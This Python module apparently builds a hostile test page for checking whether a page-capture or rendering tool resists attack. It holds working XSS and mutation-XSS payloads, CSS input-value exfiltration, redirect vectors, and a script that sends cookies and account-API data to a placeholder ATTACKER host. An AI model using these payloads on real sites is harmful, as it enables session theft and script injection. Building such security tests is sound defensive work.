"""A captured page that attacks whoever opens it: each vector tells the attacker's server that it worked.

In the markup HERE is the vector's address on that server, TELL and ASK are scripts that ask for it.
"""

SCRIPT = """
const tell = (what) => { new Image().src = "ATTACKER/" + what; };
tell("script?" + encodeURIComponent(document.cookie));
try { if (parent !== window) { parent.document.title = "owned"; tell("parent"); } } catch (e) {}
try { localStorage.setItem("desk", "owned"); tell("storage"); } catch (e) {}
try { document.cookie = "owned=1; path=/"; tell("cookie"); } catch (e) {}
try { window.open("ATTACKER/popup"); } catch (e) {}
try {
  const mine = fetch(location.origin + "/api/v1/auth/me/");
  mine.then((answer) => answer.text()).then((text) => tell("api?" + text.length));
} catch (e) {}
addEventListener("DOMContentLoaded", () => {
  try { document.getElementById("js").click(); } catch (e) {}
  try { document.getElementById("send").submit(); } catch (e) {}
  setTimeout(() => { try { top.location = "ATTACKER/top"; } catch (e) {} }, 1000);
});
"""
BY_SCRIPT = {"script", "parent", "storage", "cookie", "popup", "api", "form", "top"}

LOADS = {
    "img": '<img src="HERE">',
    "srcset": '<img srcset="HERE 1x">',
    "picture": '<picture><source srcset="HERE"><img alt=""></picture>',
    "poster": '<video poster="HERE"></video>',
    "audio": '<audio src="HERE" preload="auto"></audio>',
    "iframe": '<iframe src="HERE"></iframe>',
    "object": '<object data="HERE"></object>',
    "embed": '<embed src="HERE">',
    "stylesheet": '<link rel="stylesheet" href="HERE">',
    "preload": '<link rel="preload" as="image" href="HERE">',
    "import": '<style>@import url("HERE");</style>',
    "background": "<style>h1 { background: url(HERE) }</style>",
    "exfiltration": (
        '<style>input[value^="s"] { background: url(HERE) }</style><input name="secret" value="secret">'
    ),
    "style": '<p style="background: url(HERE)">styled</p>',
    "attribute": '<table background="HERE"><tr><td>cell</td></tr></table>',
    "image-button": '<input type="image" src="HERE">',
    "svg-image": '<svg><image href="HERE" /></svg>',
    "font": "<style>@font-face { font-family: f; src: url(HERE) } b { font-family: f }</style><b>f</b>",
}
RUNS = {
    "onerror": '<img src="data:," onerror="TELL">',
    "svg-onload": '<svg onload="TELL"></svg>',
    "ontoggle": '<details open ontoggle="TELL"><summary>x</summary></details>',
    "onfocus": '<input autofocus onfocus="TELL">',
    "srcdoc": '<iframe srcdoc="<script>TELL</script>"></iframe>',
    "javascript-frame": '<iframe src="javascript:void(TELL)"></iframe>',
    "svg-script": "<svg><script>TELL</script></svg>",
    "javascript-link": '<a id="js" href="javascript:void(TELL)">Click</a>',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=ASK>"></noscript>',
    "svg-style": '<svg></p><style><a id="</style><img src=1 onerror=ASK>">',
    "comment": "<!--><img src=1 onerror=ASK>-->",
}
# Harmless as they stand; some sanitisers have made them into a script that runs.
MUTATES = {
    "math": (
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ASK&gt;">'
    ),
    "form-math": (
        "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=ASK src>'>"
    ),
    "desc": '<svg><desc><noscript><style></noscript><a title="</style><img src onerror=ASK>">',
    "textarea": '<textarea><img title="</textarea><img src onerror=ASK>">',
}
# Each sends the reader away at once, so that it needs a page of its own.
LEAVES = {
    # Longer than what the fetcher would follow by itself.
    "refresh": f'<!--{"x" * 40_000}--><meta http-equiv="refresh" content="0;url=HERE">',
    "submit": '<form action="HERE"><input name=q value=1></form><script>document.forms[0].submit()</script>',
    "away": '<script>top.location = "HERE"</script>',
}
STORY = (
    "<h1>The bridge</h1><p>The repair of the bridge cost 4.2 million euros, says the council's account.</p>"
    "<table><tr><th>Year</th><th>Cost</th></tr><tr><td>2024</td><td>4.2</td></tr></table>"
    '<p><a href="ATTACKER/link" ping="ATTACKER/ping">The account</a> <a href="/api/v1/auth/me/">Me</a></p>'
)
SINK = (
    '<form id="send" action="ATTACKER/form" target="sink"><input name="q"></form>'
    '<iframe name="sink"></iframe>'
)


def page(attacker: str, *parts: str) -> str:
    """A page with these after its story."""
    head = '<head><base href="ATTACKER/based/"><title>The bridge</title></head>'
    markup = f"<!doctype html><html>{head}<body>{STORY}{''.join(parts)}</body></html>"
    return markup.replace("ATTACKER", attacker)


def leaving(attacker: str, vector: str) -> str:
    return page(attacker, _armed(vector, LEAVES[vector]))


def everything(attacker: str) -> str:
    """All the others on one page; what swallows the rest of a page comes last."""
    vectors = [_armed(name, markup) for name, markup in {**LOADS, **RUNS, **MUTATES}.items()]
    return page(attacker, f"<script>{SCRIPT}</script>", SINK, *vectors)


def _armed(name: str, markup: str) -> str:
    here = f"ATTACKER/{name}"
    scripts = {"TELL": f"new Image().src='{here}'", "ASK": f"fetch(`{here}`)", "HERE": here}
    for word, meaning in scripts.items():
        markup = markup.replace(word, meaning)
    return markup
